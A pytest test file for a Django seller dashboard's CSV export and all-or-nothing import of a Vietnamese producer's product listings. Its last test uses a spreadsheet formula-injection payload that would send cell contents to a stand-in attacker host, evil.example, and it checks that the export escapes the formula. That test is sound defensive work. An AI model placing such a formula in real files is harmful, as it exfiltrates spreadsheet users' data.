"""Issue 10: a producer's products out as CSV and back in, all rows or none."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from oscar.apps.partner.models import StockRecord

from catalogue.models import Category, Product
from storefront.seller import operations
from storefront.seller.models import AuditEntry, ListingChange
from storefront.seller.operations import ListingText, Refused
from storefront.seller.reports import bulk_check
from tests.factories import ProducerFactory, ProductFactory

pytestmark = pytest.mark.django_db

HEADER = "id,parent_id,sku,title,option,category,price,stock,weight_grams,state"
NOT_FOUND = "Không tìm thấy sản phẩm nào của bạn có mã này."


@pytest.fixture
def coop():
    return ProducerFactory(name="HTX Mật ong Tân Phú")


@pytest.fixture
def user(coop):
    u = get_user_model().objects.create_user("lan", "lan@example.vn", "mat-khau-dai-123")
    coop.partner.users.add(u)
    return u


@pytest.fixture
def seller(client, user):
    client.force_login(user)
    return client


@pytest.fixture
def catalogue(coop, user):
    """A live standalone product, a draft one, and a live product with two options."""
    live = ProductFactory(producer=coop, title="Mật ong rừng U Minh", stock=150000)
    draft = ProductFactory(producer=coop, title="Phấn hoa", listing_state="draft", stock=90000)
    boxed = ProductFactory(
        producer=coop, title="Sáp ong", category=Category.objects.get(code="I.3.c")
    )
    small = operations.add_option(boxed, user, "Hộp 250 g", Decimal(60000), 12)
    large = operations.add_option(boxed, user, "Hộp 500 g", Decimal(110000), 7)
    return {"live": live, "draft": draft, "boxed": boxed, "small": small, "large": large}


def upload(text, name="san-pham.csv", encoding="utf-8"):
    return SimpleUploadedFile(name, text.encode(encoding), content_type="text/csv")


def post(client, text, **kwargs):
    return client.post(reverse("seller:bulk-import"), {"file": upload(text, **kwargs)})


def errors_of(response):
    return [(e.row, e.column, e.message) for e in response.context["outcome"].errors]


def stock_of(product):
    return StockRecord.objects.get(product=product)


def snapshot():
    """Everything an import could change."""
    return (
        sorted(Product.objects.values_list("pk", "title", "listing_state", "weight_grams")),
        sorted(StockRecord.objects.values_list("pk", "price", "num_in_stock")),
        ListingChange.objects.count(),
        AuditEntry.objects.count(),
    )


# --- Export -----------------------------------------------------------------------------


def test_the_export_has_one_row_per_sellable_product_with_vietnamese_intact(seller, catalogue):
    other = ProductFactory(title="Nước mắm Cái Rồng")
    response = seller.get(reverse("seller:bulk-export"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="san-pham-')
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    c = catalogue
    assert [r["id"] for r in rows] == [
        str(p.pk) for p in (c["live"], c["draft"], c["small"], c["large"])
    ]
    live, draft, small, large = rows
    assert live == {
        "id": str(c["live"].pk),
        "parent_id": "",
        "sku": f"sku-{c['live'].pk}",
        "title": "Mật ong rừng U Minh",
        "option": "",
        "category": "I.1.a",
        "price": "150000",
        "stock": "10",
        "weight_grams": "",
        "state": "live",
    }
    assert draft["state"] == "draft" and draft["price"] == "90000"
    assert small["parent_id"] == str(c["boxed"].pk)
    assert (small["title"], small["option"], small["category"]) == ("Sáp ong", "Hộp 250 g", "I.3.c")
    assert (small["price"], small["stock"]) == ("60000", "12")
    assert large["option"] == "Hộp 500 g"
    assert str(other.pk) not in {r["id"] for r in rows}


def test_the_export_shows_text_waiting_for_review(seller, catalogue, user):
    live = catalogue["live"]
    text = ListingText.of(live)
    text.title = "Mật ong rừng U Minh Hạ"
    operations.update_text(live, user, text)
    rows = list(
        csv.DictReader(
            io.StringIO(seller.get(reverse("seller:bulk-export")).content.decode("utf-8-sig"))
        )
    )
    assert rows[0]["title"] == "Mật ong rừng U Minh Hạ"


def test_the_export_costs_the_same_queries_for_one_product_or_ten(seller, coop):
    ProductFactory(producer=coop)
    url = reverse("seller:bulk-export")
    seller.get(url)
    with CaptureQueriesContext(connection) as one:
        seller.get(url)
    for _i in range(9):
        ProductFactory(producer=coop)
    seller.get(url)  # after a write the host's storefront (theme) is looked up once again
    with CaptureQueriesContext(connection) as ten:
        response = seller.get(url)
    assert response.content.decode("utf-8-sig").count("\n") == 11
    assert len(ten) == len(one), [q["sql"] for q in ten.captured_queries]


# --- Import: what it does ---------------------------------------------------------------


def test_an_exported_file_imports_back_unchanged(seller, catalogue):
    exported = seller.get(reverse("seller:bulk-export")).content.decode("utf-8-sig")
    before = snapshot()
    response = post(seller, exported)
    assert response.status_code == 302
    assert snapshot() == before  # no change, not even an audit entry
    page = seller.get(response["Location"]).content.decode()
    assert "tạo mới 0, cập nhật 0, 0 chờ duyệt" in page


def test_an_import_updates_prices_stock_and_text_and_creates_drafts(seller, catalogue, coop, user):
    c = catalogue
    text = f"""{HEADER}
{c["live"].pk},,,Mật ong rừng U Minh Hạ,,I.1.a,"165.000",25,500,live
{c["draft"].pk},,,Phấn hoa nguyên chất,,I.3.c,90000,4,,draft
{c["small"].pk},{c["boxed"].pk},,,Hộp 300 g,,"65,000 ₫",12,,live
,,,Mắm tép chưng thịt,,I.1.a,120000,30,250,
,{c["boxed"].pk},,,Hộp 1 kg,,200000,3,,
"""
    response = post(seller, text)
    assert response.status_code == 302, errors_of(response)

    # Price and stock apply at once, audited.
    assert (stock_of(c["live"]).price, stock_of(c["live"]).num_in_stock) == (165000, 25)
    entry = AuditEntry.objects.get(subject="stock", object_id=c["live"].pk, field="price")
    assert (Decimal(entry.old), Decimal(entry.new), entry.actor) == (150000, 165000, user)
    # A live listing's new text waits for review; the live text keeps selling.
    c["live"].refresh_from_db()
    assert c["live"].title == "Mật ong rừng U Minh"
    change = ListingChange.objects.get(product=c["live"], state="pending")
    assert change.data["title"] == "Mật ong rừng U Minh Hạ"
    assert change.data["weight_grams"] == 500
    # A draft's text applies directly.
    c["draft"].refresh_from_db()
    assert c["draft"].title == "Phấn hoa nguyên chất"
    assert c["draft"].categories.get().code == "I.3.c"
    assert stock_of(c["draft"]).num_in_stock == 4
    # Options: renamed, repriced; a new one added to the same product.
    c["small"].refresh_from_db()
    assert c["small"].title == "Hộp 300 g" and stock_of(c["small"]).price == 65000
    assert c["boxed"].children.get(title="Hộp 1 kg").stockrecords.get().price == 200000
    # A row without id is a new draft of this producer.
    new = Product.objects.get(title="Mắm tép chưng thịt")
    assert (new.producer, new.listing_state, new.weight_grams) == (coop, "draft", 250)
    assert new.categories.get().code == "I.1.a"
    assert (stock_of(new).price, stock_of(new).num_in_stock) == (120000, 30)

    page = seller.get(response["Location"]).content.decode()
    assert "Đã nhập xong: tạo mới 2, cập nhật 2, 1 chờ duyệt." in page


# --- Import: all or nothing, and why ----------------------------------------------------


def test_one_bad_row_imports_nothing_and_each_error_names_its_row_and_column(seller, catalogue):
    c = catalogue
    before = snapshot()
    text = f"""{HEADER}
{c["live"].pk},,,Mật ong rừng U Minh,,I.1.a,160000,20,,live
{c["draft"].pk},,,Phấn hoa,,I.1.a,"150000.5",4,,draft
,,,Sản phẩm mới,,I.1.a,120000,30,,
{c["small"].pk},{c["boxed"].pk},,,Hộp 250 g,,60000,-3,,live
,,,,,Z.9,120000,3,,
"""
    response = post(seller, text)
    assert response.status_code == 400
    assert snapshot() == before
    assert not Product.objects.filter(title="Sản phẩm mới").exists()
    assert errors_of(response) == [
        (
            3,
            "price",
            "Nhập giá theo đồng, không có phần lẻ, ví dụ 150000 hoặc 150.000 "
            "(tiền Việt không có số thập phân).",
        ),
        (5, "stock", "Tồn kho không được âm."),
        (6, "title", "Hãy nhập tên sản phẩm."),
        (
            6,
            "category",
            "Z.9 không phải mã nhóm sản phẩm theo Quyết định 148 "
            "(dùng nhóm nhỏ nhất, ví dụ I.3.c).",
        ),
    ]
    html = response.content.decode()
    assert "Chưa nhập gì cả" in html
    assert "<td>3</td><td>price</td>" in html


def test_a_refusal_while_applying_undoes_the_rows_already_applied(seller, catalogue, monkeypatch):
    c = catalogue
    before = snapshot()
    real = operations.set_price_stock

    def refuse_the_draft(product, user, price, stock):
        if product.pk == c["draft"].pk:
            raise Refused("Đang giữ 9 sản phẩm cho các đơn chưa gửi.")
        return real(product, user, price, stock)

    monkeypatch.setattr(operations, "set_price_stock", refuse_the_draft)
    text = f"""{HEADER}
{c["live"].pk},,,Mật ong rừng U Minh,,I.1.a,160000,20,,live
{c["draft"].pk},,,Phấn hoa,,I.1.a,91000,4,,draft
"""
    response = post(seller, text)
    assert response.status_code == 400
    assert errors_of(response) == [(3, "stock", "Đang giữ 9 sản phẩm cho các đơn chưa gửi.")]
    assert snapshot() == before


def test_another_producers_id_is_not_found_like_an_id_that_does_not_exist(seller, catalogue):
    theirs = ProductFactory(title="Nước mắm Cái Rồng")
    before = snapshot()
    text = f"""{HEADER}
{theirs.pk},,,Nước mắm của tôi,,I.1.a,1000,0,,
999999999,,,Không có,,I.1.a,1000,0,,
,{theirs.pk},,,Chai 1 lít,,50000,5,,
"""
    response = post(seller, text)
    assert response.status_code == 400
    assert errors_of(response) == [
        (2, "id", NOT_FOUND),
        (3, "id", NOT_FOUND),
        (4, "parent_id", NOT_FOUND),
    ]
    assert snapshot() == before
    assert "Nước mắm Cái Rồng" not in response.content.decode()
    theirs.refresh_from_db()
    assert theirs.title == "Nước mắm Cái Rồng" and stock_of(theirs).price == 150000


def test_stock_below_what_orders_hold_is_refused(seller, catalogue):
    StockRecord.objects.filter(product=catalogue["live"]).update(num_allocated=5)
    response = post(
        seller, f"{HEADER}\n{catalogue['live'].pk},,,Mật ong rừng U Minh,,I.1.a,150000,3,,\n"
    )
    assert response.status_code == 400
    assert errors_of(response) == [
        (
            2,
            "stock",
            "Đang giữ 5 sản phẩm cho các đơn chưa gửi; tồn kho không được thấp hơn số này.",
        )
    ]
    assert stock_of(catalogue["live"]).num_in_stock == 10


@pytest.mark.parametrize(
    ("raw", "value"),
    [
        ("150000", 150000),
        ("150.000", 150000),
        ("150,000", 150000),
        ("150 000", 150000),
        ("1.500.000 ₫", 1500000),
        ("150000đ", 150000),
        ("150\u00a0000", 150000),
        ("150000.5", None),
        ("150.000,50", None),
        ("150.00", None),
        ("1.5", None),
        ("150.000.0", None),
        ("1,500.000", None),
        ("-150000", None),
        ("1e5", None),
        ("١٥٠٠٠٠", None),
        ("", None),
    ],
)
def test_prices_are_whole_dong(raw, value):
    assert bulk_check.parse_price(raw) == (Decimal(value) if value is not None else None)


def test_a_duplicated_id_and_conflicting_option_rows_are_reported(seller, catalogue):
    c = catalogue
    text = f"""{HEADER}
{c["live"].pk},,,Mật ong rừng U Minh,,I.1.a,150000,10,,
{c["live"].pk},,,Mật ong rừng U Minh,,I.1.a,150000,11,,
{c["small"].pk},{c["boxed"].pk},,Sáp ong vàng,Hộp 250 g,,60000,12,,
{c["large"].pk},{c["boxed"].pk},,Sáp ong trắng,Hộp 500 g,,110000,7,,
"""
    response = post(seller, text)
    assert errors_of(response) == [
        (3, "id", "Mã này đã có ở dòng 2."),
        (5, "title", "Dòng 4 ghi tên, nhóm hoặc khối lượng khác cho sản phẩm này."),
    ]


# --- Import: files refused as a whole ---------------------------------------------------


def test_a_file_not_in_utf8_is_refused_with_advice_for_excel(seller, catalogue):
    before = snapshot()
    # Excel's plain "CSV (Comma delimited)" on Vietnamese Windows: code page 1258.
    text = f"{HEADER}\n,,,Cà phê,,I.1.a,120000,3,,\n"
    response = post(seller, text, encoding="cp1258")
    assert response.status_code == 400
    [(row, column, message)] = errors_of(response)
    assert "UTF-8" in message and "CSV UTF-8" in message
    assert snapshot() == before


def test_a_file_with_nul_characters_is_refused(seller, catalogue):
    before = snapshot()
    response = post(seller, f"{HEADER}\n,,,Mắm\x00 tép,,I.1.a,120000,3,,\n")
    assert response.status_code == 400
    [(_row, _column, message)] = errors_of(response)
    assert "NUL" in message
    # UTF-16 (Excel's "Unicode text") is full of NULs: refused the same way.
    response = post(seller, f"{HEADER}\n,,,Mắm tép,,I.1.a,120000,3,,\n", encoding="utf-16")
    assert response.status_code == 400
    assert snapshot() == before


def test_a_utf8_file_with_a_bom_from_excel_is_read(seller, coop):
    response = post(seller, f"\ufeff{HEADER}\n,,,Mắm tép,,I.1.a,120000,3,,\n")
    assert response.status_code == 302
    assert Product.objects.get(title="Mắm tép").producer == coop


def test_unknown_and_missing_columns_are_refused(seller, catalogue):
    response = post(seller, "id,price,stock,gia_si\n,1000,1,5\n")
    assert response.status_code == 400
    assert "Cột không hợp lệ: gia_si" in errors_of(response)[0][2]
    response = post(seller, "id,title,price\n,Mắm,1000\n")
    assert errors_of(response)[0][2] == "Thiếu cột: stock."


def test_files_over_2_mb_or_500_rows_are_refused(seller, coop):
    line = ",,,Mắm tép,,I.1.a,120000,3,,\n"
    response = post(seller, HEADER + "\n" + line * 501)
    assert response.status_code == 400
    assert errors_of(response)[0][2] == "Tệp có hơn 500 dòng. Hãy chia thành nhiều tệp nhỏ hơn."
    big = HEADER + "\n" + ",,,," + "x" * (2 * 1024 * 1024) + ",,I.1.a,120000,3,,\n"
    response = post(seller, big)
    assert response.status_code == 400
    assert errors_of(response)[0][2] == "Tệp lớn hơn 2 MB. Hãy chia thành nhiều tệp nhỏ hơn."
    assert not Product.objects.filter(title="Mắm tép").exists()


def test_an_empty_file_and_a_header_only_file_are_refused(seller, coop):
    response = post(seller, "")
    assert response.status_code == 400
    assert response.context["form"].errors["file"]
    assert errors_of(post(seller, "\ufeff\n"))[0][2] == "Tệp trống."
    assert (
        errors_of(post(seller, HEADER + "\n"))[0][2] == "Tệp không có dòng nào dưới dòng tiêu đề."
    )


def test_import_is_post_only_and_checks_csrf(user, seller):
    assert seller.get(reverse("seller:bulk-import")).status_code == 405
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(user)
    response = strict.post(
        reverse("seller:bulk-import"), {"file": upload(f"{HEADER}\n,,,Mắm,,I.1.a,1000,1,,\n")}
    )
    assert response.status_code == 403
    assert not Product.objects.filter(title="Mắm").exists()


def test_the_bulk_page_offers_the_export_and_the_upload_form(seller):
    html = seller.get(reverse("seller:bulk")).content.decode()
    assert reverse("seller:bulk-export") in html
    assert 'enctype="multipart/form-data"' in html and "csrfmiddlewaretoken" in html


def test_another_producer_cannot_touch_a_products_through_the_import(client, catalogue):
    other = ProducerFactory(name="Cơ sở Nước mắm Cái Rồng")
    b = get_user_model().objects.create_user("binh", "binh@example.vn", "x")
    other.partner.users.add(b)
    client.force_login(b)
    before = snapshot()
    c = catalogue
    response = post(client, f"{HEADER}\n{c['live'].pk},,,Của B,,I.1.a,1000,0,,\n")
    assert errors_of(response) == [(2, "id", NOT_FOUND)]
    assert snapshot() == before
    exported = client.get(reverse("seller:bulk-export")).content.decode("utf-8-sig")
    assert exported.strip() == HEADER


def test_checking_a_file_costs_the_same_queries_for_one_row_or_ten(seller, coop):
    """Every row is checked against the catalogue loaded once (here all rows are refused,
    so only the checking runs)."""
    products = [ProductFactory(producer=coop) for _i in range(10)]

    def refused(n):
        body = HEADER + "\n"
        body += "".join(f"{p.pk},,,{p.title},,Z.9,160000,5,,\n" for p in products[:n])
        with CaptureQueriesContext(connection) as queries:
            response = post(seller, body)
        assert len(errors_of(response)) == n
        return len(queries)

    refused(1)
    assert refused(10) == refused(1)


def test_a_formula_in_a_title_leaves_as_text_and_comes_back_unchanged(seller, coop):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
    response = post(
        seller, HEADER + "\n" + f',,,"{formula.replace(chr(34), chr(34) * 2)}",,I.1.a,120000,3,,\n'
    )
    assert response.status_code == 302, errors_of(response)
    product = Product.objects.get(producer=coop, title=formula)
    exported = seller.get(reverse("seller:bulk-export")).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == str(product.pk))
    assert row["title"] == "'" + formula  # Excel shows it as text, runs nothing
    # Importing the exported file back changes nothing.
    assert post(seller, exported).status_code == 302
    product.refresh_from_db()
    assert product.title == formula
